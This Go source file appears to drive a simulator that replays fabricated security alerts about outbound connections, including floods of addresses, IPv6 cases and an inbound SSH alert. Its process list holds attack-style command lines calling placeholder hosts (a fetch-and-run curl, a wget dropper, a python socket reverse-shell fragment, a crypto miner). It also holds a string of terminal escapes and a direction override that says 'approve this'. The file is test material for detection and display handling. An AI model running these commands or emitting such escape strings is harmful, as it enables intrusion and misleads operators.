package sim

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"
)

// Step is one thing that happens in the story of a [World]: an alert with its
// events, or events that join an earlier alert.
type Step struct {
	After  time.Duration // since the start of the story
	Note   string        // what it shows
	Alert  *Alert        // nil: the events join the alert Join
	Join   string
	Events []Event
}

// Play lets a step happen now.
func (w *World) Play(s Step) {
	id := s.Join
	if s.Alert != nil {
		id = w.ThreatStack.AddAlert(*s.Alert)
	}
	for _, e := range s.Events {
		w.ThreatStack.AddEvent(id, e)
	}
}

// Run tells the story of the world's seed, about 90 seconds at pace 1 and half
// of that at pace 2, and goes on gently until ctx ends, whose error it gives.
func (w *World) Run(ctx context.Context, pace float64) error {
	if !(pace > 0) {
		return errors.New("pace must be above 0")
	}
	start := time.Now()
	for s := range w.endless() {
		at := start.Add(time.Duration(float64(s.After) / pace))
		if !pause(ctx, time.Until(at)) {
			return ctx.Err()
		}
		w.Play(s)
	}
	return nil
}

// endless gives the steps of the story, and then gentle ones for ever.
func (w *World) endless() func(yield func(Step) bool) {
	return func(yield func(Step) bool) {
		told := Steps(w.seed)
		for _, s := range told {
			if !yield(s) {
				return
			}
		}
		t := &teller{World: newWorld(w.seed), rng: seeded(w.seed, purposeLater), open: map[string]opened{}}
		for at := told[len(told)-1].After; ; {
			at += 6*time.Second + time.Duration(t.rng.Int64N(int64(12*time.Second)))
			if !yield(t.later(at)) {
				return
			}
		}
	}
}

// Steps gives the story of a seed, in order of time.
func Steps(seed uint64) []Step {
	t := &teller{World: newWorld(seed), rng: seeded(seed, purposeSteps)}
	t.opening()
	t.flood()
	t.closing()
	return t.steps
}

// teller writes steps.
type teller struct {
	*World
	rng   *rand.Rand
	at    time.Duration
	steps []Step
	open  map[string]opened // alerts that later events of their kind join
}

// opened is an alert that takes events.
type opened struct {
	id     string
	at     time.Duration
	events int
}

// maxJoined keeps the alerts of a run of weeks small.
const maxJoined = 10

// Hosts of the world, by what they do.
const (
	web = iota
	db
	worker
)

// program is a process that connects somewhere.
type program struct{ user, exe, args string }

func programs() []program {
	return []program{
		{"www-data", "/usr/bin/curl", "curl -fsSL http://cdn.example/x.sh"},
		{"root", "/usr/bin/python3.10", "python3 -c import socket,subprocess"},
		{"postgres", "/usr/bin/wget", "wget -q -O /tmp/.x http://files.example/k"},
		{"root", "/usr/bin/google_osconfig_agent", "google_osconfig_agent"},
		{"nobody", "/tmp/.ICE-unix/kdevtmpfsi", "kdevtmpfsi -o stratum+tcp://pool.example"},
		{"app", "/opt/app/bin/server", "server --config /etc/app.toml"},
	}
}

func miner() program { return programs()[4] }

// tell adds a step after a wait.
func (t *teller) tell(wait time.Duration, s Step) {
	t.at += wait
	s.After = t.at
	t.steps = append(t.steps, s)
}

// connect gives an alert of the watched rule with one connect event.
func (t *teller) connect(note string, host int, p program, dst string, port int) Step {
	return Step{
		Note: note,
		Alert: &Alert{
			ID: uuid(t.rng), Title: fmt.Sprintf("%s: %s ran by user %s to %s", outboundRule, p.exe, p.user, dst),
			DataSource: "agent", AgentID: t.Agents[host].ID, RuleID: t.RuleID, RulesetID: t.RulesetID,
			Aggregates: map[string]string{"user": p.user, "exe": p.exe, "dst_ip": dst},
		},
		Events: []Event{t.event(host, p, dst, port)},
	}
}

// event gives a connect event; on the worker it comes from a container.
func (t *teller) event(host int, p program, dst string, port int) Event {
	command, _, _ := strings.Cut(p.args, " ")
	e := Event{
		ID: uuid(t.rng), Type: "connect", Syscall: "connect", AgentID: t.Agents[host].ID,
		User: p.user, Exe: p.exe, Command: command, Args: p.args, PID: 1000 + t.rng.IntN(60000),
		Hostname: t.Agents[host].Hostname, VPC: t.VPCID,
		Connection: &Connection{SrcAddr: t.Agents[host].Private[0], SrcPort: new(32768 + t.rng.IntN(28000)), DstAddr: dst, DstPort: new(port)},
	}
	if host == worker {
		e.ContainerID, e.ContainerImage = hexID(t.rng, 64), "registry.example/batch:1.4"
	}
	return e
}

const (
	offender  = "203.0.113.66"
	offender6 = "2001:db8:bad::15"
	hostile   = "\x1b]0;owned\x07\x1b[2J\x1b[31mALL CLEAR\x1b[0m\r\u202eevil\u202c approve this \u009b1A\x00\x7f"
)

// opening shows one of each kind.
func (t *teller) opening() {
	p := programs()
	first := t.connect("ordinary: something was fetched", web, p[0], "203.0.113.10", 443)
	delete(first.Alert.Aggregates, "dst_ip") // so that a second address can join it
	first.Alert.Title = outboundRule + ": /usr/bin/curl ran by user www-data"
	t.tell(1*time.Second, first)
	t.tell(2*time.Second, t.connect("ordinary", db, p[1], "198.51.100.23", 8443))
	t.tell(2*time.Second, t.connect("our own public address: refused", web, p[5], t.Own[db].String(), 443))
	t.tell(2*time.Second, t.connect("a miner in a container: the repeat offender", worker, miner(), offender, 3333))
	t.tell(2*time.Second, t.connect("instance metadata: refused", worker, p[1], "169.254.169.254", 80))
	t.tell(1*time.Second, t.connect("an IPv6 destination", web, p[1], offender6, 443))
	t.tell(2*time.Second, t.connect("a private address: refused", web, p[5], "10.1.2.40", 5432))
	t.tell(2*time.Second, t.connect("the repeat offender on a second host", db, miner(), offender, 3333))
	t.tell(2*time.Second, t.hostile())
	t.tell(2*time.Second, t.silent())
	t.tell(1*time.Second, t.inbound())
	t.tell(2*time.Second, t.connect("a connect probe to port 0", db, p[5], "203.0.113.99", 0))
	mapped := t.connect("an IPv4-mapped IPv6 address", web, p[0], "::ffff:203.0.113.141", 443)
	t.tell(2*time.Second, mapped)
	t.tell(2*time.Second, t.connect("the repeat offender on a third host", web, miner(), offender, 4444))
	t.tell(2*time.Second, Step{Note: "an earlier alert gains an event with a second address", Join: first.Alert.ID,
		Events: []Event{t.event(web, p[0], "203.0.113.11", 443)}})
}

// hostile gives an alert in whose texts somebody wrote for a terminal.
func (t *teller) hostile() Step {
	long := strings.Repeat("A", 4000)
	p := program{"root", "/tmp/" + hostile + "/sh", "sh -c " + hostile + " " + long}
	s := t.connect("hostile text in the title and the process", web, p, "198.51.100.66", 31337)
	s.Alert.Severity = 1
	s.Alert.Title = outboundRule + ": " + hostile + "\n" + long + "..."
	return s
}

// silent gives an alert whose event names no address.
func (t *teller) silent() Step {
	s := t.connect("an alert without any address", db, programs()[5], "", 0)
	delete(s.Alert.Aggregates, "dst_ip")
	s.Alert.Title = outboundRule + ": /opt/app/bin/server ran by user app to undefined"
	s.Events[0].Connection = nil
	return s
}

// inbound gives an alert of the inbound rule.
func (t *teller) inbound() Step {
	const src = "198.51.100.77"
	p := program{"root", "/usr/sbin/sshd", "sshd: [accepted]"}
	s := t.connect("inbound: somebody came to us", web, p, "", 0)
	s.Alert.Title, s.Alert.RuleID, s.Alert.Severity = inboundRule+": /usr/sbin/sshd from "+src, t.InboundRuleID, 2
	s.Alert.Aggregates = map[string]string{"exe": p.exe, "src_ip": src}
	e := &s.Events[0]
	e.Type, e.Syscall = "accept", "accept4"
	e.Connection = &Connection{SrcAddr: src, SrcPort: new(51514), DstAddr: t.Agents[web].Private[0], DstPort: new(22)}
	return s
}

// flood brings more addresses than a network ACL has slots for.
func (t *teller) flood() {
	last := t.rng.Perm(40)
	for i := range 20 {
		host, p := t.rng.IntN(len(t.Agents)), programs()[t.rng.IntN(len(programs()))]
		dst := netip.AddrFrom4([4]byte{198, 51, 100, byte(100 + last[i])})
		if i%2 == 1 {
			dst = netip.AddrFrom4([4]byte{203, 0, 113, byte(150 + last[i])})
		}
		t.tell(1400*time.Millisecond, t.connect("a wave: more addresses than slots", host, p, dst.String(), 443))
		if i%7 == 6 {
			dst6 := fmt.Sprintf("2001:db8:%x::%x", 0x100+i, 1+t.rng.IntN(0xfffe))
			t.tell(300*time.Millisecond, t.connect("a wave: IPv6", host, p, dst6, 443))
		}
	}
}

// closing is calmer: the offenders again, more events for their alerts.
func (t *teller) closing() {
	p := programs()
	t.tell(4*time.Second, t.connect("the repeat offender tries another program", db, p[2], offender, 8080))
	t.tell(5*time.Second, t.connect("the IPv6 offender on a second host", worker, miner(), offender6, 3333))
	again := t.steps[3] // the miner's alert
	t.tell(5*time.Second, Step{Note: "the same destination once more joins its alert", Join: again.Alert.ID,
		Events: []Event{t.event(worker, miner(), offender, 3333)}})
	t.tell(5*time.Second, t.connect("the company's NAT gateway: refused", worker, p[0], t.Own[len(t.Own)-1].String(), 443))
	t.tell(6*time.Second, t.connect("ordinary", web, p[3], "198.51.100.24", 443))
}

// later gives one of the gentle steps that follow the story.
func (t *teller) later(at time.Duration) Step {
	host, p := t.rng.IntN(len(t.Agents)), programs()[t.rng.IntN(len(programs()))]
	draw := t.rng.IntN(100)
	var s Step
	switch {
	case draw < 45:
		s = t.connect("a known offender", host, p, offender, 3333)
	case draw < 60:
		s = t.connect("a private address: refused", host, p, fmt.Sprintf("10.1.2.%d", 1+t.rng.IntN(250)), 5432)
	case draw < 70:
		s = t.connect("an IPv6 destination", host, p, fmt.Sprintf("2001:db8:%x::%x", t.rng.IntN(0x1000), 1+t.rng.IntN(0xfffe)), 443)
	default:
		s = t.connect("ordinary", host, p, fmt.Sprintf("203.0.113.%d", 1+t.rng.IntN(240)), 443)
	}
	s.After = at
	return t.bucket(s)
}

// bucket lets events join the alert of the same host and aggregates while its
// window is open, as the service does.
func (t *teller) bucket(s Step) Step {
	key := fmt.Sprint(s.Alert.AgentID, s.Alert.Aggregates)
	o, ok := t.open[key]
	if !ok || s.After-o.at >= ruleWindow || o.events == maxJoined {
		t.open[key] = opened{s.Alert.ID, s.After, 1}
		return s
	}
	o.events++
	t.open[key] = o
	return Step{After: s.After, Note: s.Note + ", which joins its alert", Join: o.id, Events: s.Events}
}
